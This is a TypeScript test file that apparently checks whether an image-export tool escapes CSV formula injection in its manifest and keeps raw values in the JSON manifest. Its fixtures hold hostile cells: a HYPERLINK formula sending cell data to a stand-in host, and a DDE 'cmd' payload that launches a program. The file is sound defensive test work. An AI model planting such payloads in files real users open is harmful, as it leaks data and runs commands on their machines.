/**
 * CSV manifest formula injection: SKUs and prompts come from CSV files other people send. A cell
 * that starts with = + - @ (or a tab or CR) runs as a formula when the manifest is opened in
 * Excel, LibreOffice or Sheets, so the export writes it with a leading apostrophe (plain text).
 */
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { exportEngine, ok, readCsv, runExport } from '../../helpers/export-library'
import { tempDir } from '../../helpers/temp-dir'

/** SKU cell, then product cell (the whole prompt), as a hostile sheet would carry them. */
const hostile: Array<[string, string]> = [
  ['=HYPERLINK("http://x.example/?"&A1)', '=1+2 mug'],
  ['+cmd|\' /C calc\'!A0', '+red cup'],
  ['-2+3', '-plate'],
  ['@SUM(A1:A9)', '@bowl'],
  ['\tTAB1', 'jug\tstriped'],
  ['SAFE-1', 'plain vase'],
]

describe('CSV manifest: cells that a spreadsheet would run as formulas', () => {
  it('writes every formula-looking text cell with a leading apostrophe and leaves numbers and plain text alone', async () => {
    const engine = await exportEngine()
    const table = ['sku,product', ...hostile.map((cells) => cells.map((c) => `"${c.replaceAll('"', '""')}"`).join(','))].join('\n')
    const run = await ok(engine, 'batches.run', {
      template: { name: 'Bare', body: '{{product}}' },
      table,
      settings: { provider: 'demo', sizes: [{ width: 64, height: 64 }] },
    })
    const jobs = await engine.waitForJobs(run.jobIds)
    expect(jobs.map((j) => j.status)).toEqual(hostile.map(() => 'succeeded'))

    const out = tempDir()
    const { state } = await runExport(engine, { folder: out, selection: { kind: 'batch', batchId: run.batchId }, manifest: 'csv' })
    expect(state.status).toBe('done')
    const rows = readCsv(join(out, state.manifest!))
    expect(rows).toHaveLength(hostile.length)

    for (const row of rows) {
      for (const [column, value] of Object.entries(row)) {
        // No cell may begin like a formula; an apostrophe-led cell is text in every spreadsheet.
        expect(value, `${column} = ${value}`).not.toMatch(/^[=+\-@\t\r]/)
      }
    }
    const bySku = new Map(rows.map((r) => [r.sku, r]))
    for (const [sku, prompt] of hostile) {
      const looksLikeFormula = (text: string) => /^[=+\-@\t\r]/.test(text)
      // Cells are trimmed when a batch reads them, so a leading tab is gone before any manifest.
      const kept = sku.trim()
      const written = bySku.get(looksLikeFormula(kept) ? `'${kept}` : kept)
      expect(written, sku).toBeDefined()
      expect(written!.prompt).toBe(looksLikeFormula(prompt.trim()) ? `'${prompt.trim()}` : prompt.trim())
      // Numbers are numbers: a spreadsheet still sums sizes, bytes and costs.
      expect(written!.width).toBe('64')
      expect(written!.estimated_cost).toBe('0')
    }
    // The file names, made from the prompt, are already safe; the JSON manifest keeps values as they are.
    expect(bySku.get('SAFE-1')!.prompt).toBe('plain vase')
  })

  it('keeps the raw values in a JSON manifest, which no spreadsheet evaluates', async () => {
    const engine = await exportEngine()
    const run = await ok(engine, 'batches.run', {
      template: { name: 'Bare', body: '{{product}}' },
      table: 'sku,product\n"=HYPERLINK(""http://x.example"")",=1+2 mug\n',
      settings: { provider: 'demo', sizes: [{ width: 64, height: 64 }] },
    })
    await engine.waitForJobs(run.jobIds)
    const { state } = await runExport(engine, { folder: tempDir(), selection: { kind: 'batch', batchId: run.batchId }, manifest: 'json' })
    const manifest = JSON.parse(readFileSync(join(state.folder, 'manifest.json'), 'utf8')) as { files: { sku: string; prompt: string }[] }
    expect(manifest.files.map((f) => [f.sku, f.prompt])).toEqual([['=HYPERLINK("http://x.example")', '=1+2 mug']])
  })
})
